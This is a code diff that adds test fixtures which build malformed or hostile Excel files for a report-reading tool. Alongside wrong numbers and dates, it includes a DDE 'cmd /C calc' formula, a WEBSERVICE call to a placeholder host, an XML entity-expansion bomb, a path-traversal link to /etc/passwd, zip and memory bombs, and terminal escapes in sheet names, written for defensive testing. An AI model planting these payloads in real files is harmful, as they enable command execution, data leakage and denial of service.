@@ -548,3 +548,204 @@ def codes_fullwidth_and_invisible(path: Path, base: Path) -> Path:
         ws.cell(row_of(ws, "TG_KHOI_TO"), 1).value = "\ufefftg_khoi_to"
         ws.cell(row_of(ws, "TG_TON_DAU_KY"), 1).value = unicodedata.normalize("NFD", "TG_TON_DAU_KY")
     return _spoil(path, base, change)
+
+
+# --- trust: wrong numbers, wrong dates, files that say two things (issue 10) ------------------------
+
+numbers_comma_thousands = _typed(TT_LUOT_NGUOI="2,000", TT_TIN_BAI="15,000")
+numbers_comma_ambiguous_fraction = _typed(TT_LUOT_NGUOI="2,500")
+numbers_comma_millions = _typed(TT_LUOT_NGUOI="2,000,000")
+date_far_future_cell = _typed(META_SUBMITTED=datetime(9999, 12, 31))
+date_far_future_text = _typed(META_SUBMITTED="31/12/2999")
+date_year_2052 = _typed(META_SUBMITTED=datetime(2052, 10, 16))
+date_before_the_period = _typed(META_SUBMITTED="01/08/2025")  # 10/2025 starts on 15/09/2025
+period_of_another_month = _typed(META_PERIOD="09/2025")
+error_typed_as_text = _typed(TG_TIEP_NHAN="#REF!")
+
+
+def cover_part(base: Path) -> str:
+    return worksheet_part(base, COVER)
+
+
+def with_cells(base: Path, path: Path, sheet: str, cells: dict[str, str],
+               add: dict[str, bytes] | None = None) -> Path:
+    """``base`` with cells of ``sheet`` replaced by raw XML (``<c r="E6" ...>...</c>``), as
+    Excel or another program would write them: cached formula results, error values."""
+    import re
+
+    part = worksheet_part(base, sheet)
+    xml = dict(_parts(base))[part].decode()
+    for ref, raw in cells.items():
+        xml, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', raw, xml, count=1)
+        assert n == 1, f"no cell {ref} on {sheet}"
+    return rezip(base, path, {part: xml.encode()}, add=add)
+
+
+def error_values(path: Path, base: Path) -> Path:
+    """Formulas whose saved results are errors, as Excel writes them (t="e")."""
+    return with_cells(base, path, TG_SHEET, {
+        "E6": '<c r="E6" t="e"><f>1/0</f><v>#DIV/0!</v></c>',
+        "E8": '<c r="E8" t="e"><f>VLOOKUP(1,A1:A2,2,0)</f><v>#N/A</v></c>'})
+
+
+def formulas_reaching_out(path: Path, base: Path) -> Path:
+    """A valid file whose cells hold formulas that reach outside the workbook, each with the
+    result Excel saved: a hyperlink as the reporter, a web service and a DDE call as values."""
+    import re
+
+    parts = dict(_parts(base))
+    tg, cover = worksheet_part(base, TG_SHEET), worksheet_part(base, COVER)
+    xml = parts[tg].decode()
+    xml = re.sub(r'<c r="E6"[^>]*?(?:/>|>.*?</c>)',
+                 '<c r="E6"><f>_xlfn.WEBSERVICE("http://example.invalid/?q="&amp;A1)*0+5</f>'
+                 '<v>5</v></c>', xml, count=1)
+    xml = re.sub(r'<c r="E7"[^>]*?(?:/>|>.*?</c>)',
+                 "<c r=\"E7\"><f>cmd|' /C calc'!A0*0+5</f><v>5</v></c>", xml, count=1)
+    cover_xml = parts[cover].decode()
+    cover_xml = re.sub(r'<c r="E7"[^>]*?(?:/>|>.*?</c>)',
+                       '<c r="E7" t="str"><f>HYPERLINK("http://example.invalid","Nguyễn Thị Hoa")</f>'
+                       '<v>Nguyễn Thị Hoa</v></c>', cover_xml, count=1)
+    return rezip(base, path, {tg: xml.encode(), cover: cover_xml.encode()})
+
+
+def unsafe_formula_without_value(path: Path, base: Path) -> Path:
+    """A web-service formula saved by a program without its result."""
+    return with_cells(base, path, TG_SHEET, {
+        "E6": '<c r="E6"><f>_xlfn.WEBSERVICE("http://example.invalid/")</f></c>'})
+
+
+def name_of_another_agency(path: Path, base: Path) -> Path:
+    """CA_TINH's file saved under BDBP's name (the test names it)."""
+    shutil.copy(base, path)
+    return path
+
+
+def entity_in_core_properties(path: Path, base: Path) -> Path:
+    """An entity in docProps/core.xml, a part kpi's reader never looks at but openpyxl parses
+    when it makes the marked copy (a 25 kB file took 2.4 GB there)."""
+    entities = ['<!ENTITY a0 "aaaaaaaaaa">'] + [
+        f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 9)]
+    core = dict(_parts(base))["docProps/core.xml"].decode()
+    head, _, body = core.partition("?>")
+    core = f'{head}?><!DOCTYPE cp:coreProperties [{"".join(entities)}]>' + body.replace(
+        "<dc:creator>kpi</dc:creator>", "<dc:creator>&a8;</dc:creator>")
+    return rezip(base, path, {"docProps/core.xml": core.encode()})
+
+
+def dtd_in_utf16_styles(path: Path, base: Path) -> Path:
+    """The styles part re-encoded as UTF-16 with a DTD: the DTD is found in any encoding."""
+    styles = dict(_parts(base))["xl/styles.xml"].decode()
+    head, _, body = styles.partition("?>")
+    text = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE x [<!ENTITY e "e">]>' + body
+    return rezip(base, path, {"xl/styles.xml": b"\xff\xfe" + text.encode("utf-16-le")})
+
+
+def _with_shared_string(base: Path, path: Path, text: str, refs: list[str]) -> Path:
+    """``base`` with a shared-strings part holding ``text`` once, named by the value cells
+    ``refs`` of the TT sheet: a file of kilobytes whose cells hold megabytes once read."""
+    import re
+
+    parts = dict(_parts(base))
+    part = worksheet_part(base, TT_SHEET)
+    xml = parts[part].decode()
+    for ref in refs:
+        xml, n = re.subn(rf'<c r="{ref}"[^>]*?(?:/>|>.*?</c>)', f'<c r="{ref}" t="s"><v>0</v></c>',
+                         xml, count=1)
+        assert n == 1
+    sst = ('<?xml version="1.0" encoding="UTF-8"?><sst xmlns="http://schemas.openxmlformats.org/'
+           f'spreadsheetml/2006/main" count="{len(refs)}" uniqueCount="1"><si><t>{text}</t></si></sst>')
+    types = parts["[Content_Types].xml"].replace(
+        b"</Types>", b'<Override PartName="/xl/sharedStrings.xml" ContentType="application/'
+        b'vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml"/></Types>')
+    rels = parts["xl/_rels/workbook.xml.rels"].replace(
+        b"</Relationships>", b'<Relationship Id="rIdS" Target="sharedStrings.xml" Type="http://'
+        b'schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings"/></Relationships>')
+    return rezip(base, path, {part: xml.encode(), "[Content_Types].xml": types,
+                              "xl/_rels/workbook.xml.rels": rels},
+                 add={"xl/sharedStrings.xml": sst.encode()})
+
+
+def ten_megabytes_in_a_cell(path: Path, base: Path) -> Path:
+    """One value cell holding 9.9 MB of text (in a 30 kB file)."""
+    return _with_shared_string(base, path, "A" * 9_900_000, ["E9"])
+
+
+def ten_megabytes_in_many_cells(path: Path, base: Path) -> Path:
+    """The same 9.9 MB string named by four value cells: 40 MB of text once read."""
+    return _with_shared_string(base, path, "A" * 9_900_000, ["E6", "E7", "E8", "E9"])
+
+
+def many_code_rows(path: Path, base: Path, rows: int = 200_000) -> Path:
+    """200,000 rows with a code, five columns wide: inside the cell limit, far beyond any
+    report (each row an unknown code, each a warning)."""
+    import openpyxl
+
+    wb = openpyxl.Workbook(write_only=True)
+    cover = wb.create_sheet(COVER)
+    cover.append(["META_AGENCY", None, None, None, "CA_TINH"])
+    cover.append(["META_PERIOD", None, None, None, "10/2025"])
+    data = wb.create_sheet("Số liệu")
+    for r in range(rows):
+        data.append([f"ZZ_R{r}", None, None, None, 1])
+    wb.save(path)
+    return path
+
+
+def many_filled_cells(path: Path, base: Path) -> Path:
+    """The valid file with a spare sheet of 120,000 filled cells (no codes)."""
+    import openpyxl
+
+    shutil.copy(base, path)
+    wb = openpyxl.load_workbook(path)
+    ws = wb.create_sheet("Phụ lục")
+    for r in range(1, 12_001):
+        for c in range(1, 11):
+            ws.cell(r, c, r * c)
+    wb.save(path)
+    return path
+
+
+def ratio_bomb_part(path: Path, base: Path) -> Path:
+    """A picture part of 11 MB of zeros: under the 100 MB total, but 1000 times its packed size."""
+    return rezip(base, path, add={"xl/media/image1.png": b"\0" * (11 * 1024 * 1024)})
+
+
+def sheet_outside_the_file(path: Path, base: Path) -> Path:
+    """The workbook's relationship for a sheet points outside the archive."""
+    parts = dict(_parts(base))
+    rels = parts["xl/_rels/workbook.xml.rels"].replace(
+        b'Target="worksheets/sheet3.xml"', b'Target="../../../../etc/passwd"').replace(
+        b'Target="/xl/worksheets/sheet3.xml"', b'Target="../../../../etc/passwd"')
+    assert rels != parts["xl/_rels/workbook.xml.rels"]
+    return rezip(base, path, {"xl/_rels/workbook.xml.rels": rels})
+
+
+def negative_date_serial(path: Path, base: Path) -> Path:
+    """The date sent as a date cell holding -5 (Excel shows #####)."""
+    def change(wb):
+        ws = wb[COVER]
+        cell = ws.cell(row_of(ws, "META_SUBMITTED"), 5)
+        cell.value = -5
+        cell.number_format = "DD/MM/YYYY"
+    return _spoil(path, base, change)
+
+
+def escapes_in_sheet_names(path: Path, base: Path) -> Path:
+    """A sheet named with a terminal escape (stored as Excel stores control characters,
+    _x001B_) and a right-to-left override, holding a bad value: its name gets printed."""
+    bad = _typed(TT_TIN_BAI="mười")(path, base)
+    parts = dict(_parts(bad))
+    book = parts["xl/workbook.xml"].decode()
+    assert 'name="TT Truyền thông"' in book
+    book = book.replace('name="TT Truyền thông"', 'name="TT_x001B_[2J_x001B_]0;PWN_x0007_\u202eTruyền"')
+    return rezip(bad, path, {"xl/workbook.xml": book.encode()})
+
+
+def case_twin_sheets(path: Path, base: Path) -> Path:
+    """The TH sheet renamed to the TT sheet's name in lower case (Excel forbids two sheets whose
+    names differ only in case; other programs write them), with a bad value on it."""
+    bad = _typed(TH_LOP="mười")(path, base)
+    parts = dict(_parts(bad))
+    book = parts["xl/workbook.xml"].decode()
+    book = book.replace('name="TH Tập huấn"', 'name="tt truyền thông"')
+    return rezip(bad, path, {"xl/workbook.xml": book.encode()})
